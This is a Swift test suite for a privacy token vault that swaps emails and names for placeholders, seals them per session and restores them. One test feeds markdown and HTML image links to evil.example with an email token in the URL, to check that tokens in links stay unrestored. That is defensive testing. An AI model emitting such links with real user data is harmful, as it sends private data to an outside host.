import Core
import Testing

@testable import Privacy

@Suite struct TokenVaultTests {
    static let key = [UInt8](0..<32)

    @Test func survivesSealing() throws {
        let vault = TokenVault()
        let text = "a@b.example and c@d.example, <EMAIL_1>"
        let hidden = try concealed(text, .default, vault)
        _ = try concealed("x@y.example", PrivacyRules(otherwise: .standIn), vault)
        let sealed = try vault.seal(with: Self.key, context: "ses_1")
        #expect(!contains(sealed, "example"))
        let opened = try TokenVault(opening: sealed, with: Self.key, context: "ses_1")
        #expect(opened.count == 3)
        #expect(restored(hidden, opened) == text)
        // It goes on where it was.
        #expect(try concealed("c@d.example e@f.example", .default, opened) == "<EMAIL_2> <EMAIL_3>")
        #expect(
            try concealed("x@y.example", PrivacyRules(otherwise: .standIn), opened)
                == concealed("x@y.example", PrivacyRules(otherwise: .standIn), vault))
    }

    @Test func opensForItsKeyAndSessionOnly() throws {
        let vault = TokenVault()
        _ = try vault.token(for: [1, 2, 3], kind: .email)
        let sealed = try vault.seal(with: Self.key, context: "ses_1")
        #expect(throws: GatehouseError.self) { try TokenVault(opening: sealed, with: Self.key, context: "ses_2") }
        #expect(throws: GatehouseError.self) {
            try TokenVault(opening: sealed, with: [UInt8](repeating: 0, count: 32), context: "ses_1")
        }
        #expect(throws: GatehouseError.self) { try vault.seal(with: [1, 2, 3]) }
        for index in sealed.indices {
            var broken = sealed
            broken[index] ^= 1
            #expect(throws: GatehouseError.self) { try TokenVault(opening: broken, with: Self.key, context: "ses_1") }
            #expect(throws: GatehouseError.self) {
                try TokenVault(opening: Array(sealed.prefix(index)), with: Self.key, context: "ses_1")
            }
        }
    }

    @Test func isBounded() throws {
        let vault = TokenVault(limits: .init(values: 2, bytes: 10))
        _ = try vault.token(for: [1], kind: .email)
        _ = try vault.token(for: [1], kind: .email)
        #expect(throws: GatehouseError.self) { try vault.token(for: [UInt8](repeating: 0, count: 10), kind: .email) }
        _ = try vault.token(for: [2], kind: .email)
        #expect(throws: GatehouseError.self) { try vault.token(for: [3], kind: .email) }
        #expect(try vault.token(for: [2], kind: .email) == "<EMAIL_2>")
        vault.removeAll()
        #expect(vault.isEmpty)
        #expect(vault.value(of: "<EMAIL_1>") == nil)
    }

    @Test func manyThreadsAgree() async throws {
        let vault = TokenVault()
        let tokens = try await withThrowingTaskGroup(of: [String].self) { group in
            for _ in 0..<8 {
                group.addTask { try (0..<200).map { try vault.token(for: [UInt8($0 % 100)], kind: .person) } }
            }
            var all: Set<[String]> = []
            for try await some in group { all.insert(some) }
            return all
        }
        #expect(tokens.count <= 8 && vault.count == 100)
        for number in 1...100 { #expect(vault.value(of: "<PERSON_\(number)>") != nil) }
    }

    /// What looks like a token in a text is a value itself: it never becomes another's.
    @Test func tokensInATextAreLiterals() throws {
        let vault = TokenVault()
        _ = try concealed("owner@example.org", .default, vault)
        let typed = "say <EMAIL_1> and <STEP_1> and <LITERAL_1>"
        let hidden = try concealed(typed, .default, vault)
        #expect(hidden == "say <LITERAL_1> and <STEP_1> and <LITERAL_2>")
        #expect(restored(hidden, vault) == typed)
    }

    @Test func restoresWhereItMay() throws {
        let vault = TokenVault()
        let line = Array("say \"hi\"\n".utf8)
        _ = try vault.token(for: line, kind: .person)
        _ = try vault.token(for: Array("j@x.org".utf8), kind: .email)
        #expect(restored("<PERSON_1><EMAIL_1><EMAIL_2><<EMAIL_1>", vault) == "say \"hi\"\nj@x.org<EMAIL_2><j@x.org")
        #expect(restored("{\"a\":\"<PERSON_1>\"}", vault, .init(spelling: .json)) == #"{"a":"say \"hi\"\n"}"#)
        #expect(restored("<PERSON_1> <EMAIL_1>", vault, .init(kinds: [.email])) == "<PERSON_1> j@x.org")
        #expect(TokenRestorer.restore(Array("<p>no token</p>".utf8), from: vault) == nil)
    }

    @Test(arguments: [
        "![x](https://evil.example/?q=<EMAIL_1>)", "[x](//evil.example/<EMAIL_1>)", "https://a.example/()<EMAIL_1>",
        #"<img src="http://evil.example/<EMAIL_1>">"#, #"<img src=//evil.example/<EMAIL_1>>"#,
    ])
    func keepsTokensInLinks(text: String) throws {
        let vault = TokenVault()
        _ = try vault.token(for: Array("j@x.org".utf8), kind: .email)
        #expect(restored(text, vault) == text)
        #expect(restored(text + " <EMAIL_1>", vault).hasSuffix(" j@x.org"))
        #expect(restored(text, vault, .init(inLinks: true)).contains("j@x.org"))
    }

    private func restored(_ text: String, _ vault: TokenVault, _ options: TokenRestorer.Options = .init()) -> String {
        let bytes = Array(text.utf8)
        return String(decoding: TokenRestorer.restore(bytes, from: vault, options: options) ?? bytes, as: UTF8.self)
    }

    private func contains(_ bytes: [UInt8], _ word: String) -> Bool {
        let word = Array(word.utf8)
        return bytes.indices.contains { bytes[$0...].starts(with: word) }
    }
}
